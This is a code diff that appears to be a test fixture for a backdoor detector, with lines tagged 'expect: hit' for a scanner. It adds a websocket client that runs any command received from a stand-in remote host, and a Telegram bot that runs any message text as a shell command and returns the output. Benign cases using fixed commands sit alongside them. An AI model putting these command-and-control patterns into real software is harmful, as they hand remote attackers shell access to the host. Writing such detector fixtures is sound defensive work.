@@ -1,3 +1,6 @@
+import shlex
+import telebot
+import websockets
 import os
 import pty
 import socket
@@ -117,3 +120,27 @@ async def listening():
 
 async def listening_for_gzip():
     await asyncio.start_server(served_by_gzip, "0.0.0.0", 9099)
+
+
+async def orders_of_a_socket():
+    async with websockets.connect("wss://c.example.net/s") as connection:
+        async for message in connection:
+            await asyncio.create_subprocess_exec(*shlex.split(message))  # expect: hit
+
+
+async def words_of_its_own(connection):
+    await asyncio.create_subprocess_exec(*["git", "pull"])
+    print(await connection.recv())
+
+
+bot = telebot.TeleBot(open("token").read())
+
+
+@bot.message_handler(func=lambda message: True)
+def on_message(message):
+    bot.reply_to(message, subprocess.getoutput(message.text))  # expect: hit
+
+
+@bot.message_handler(commands=["uptime"])
+def on_uptime(message):
+    bot.reply_to(message, subprocess.getoutput("uptime"))
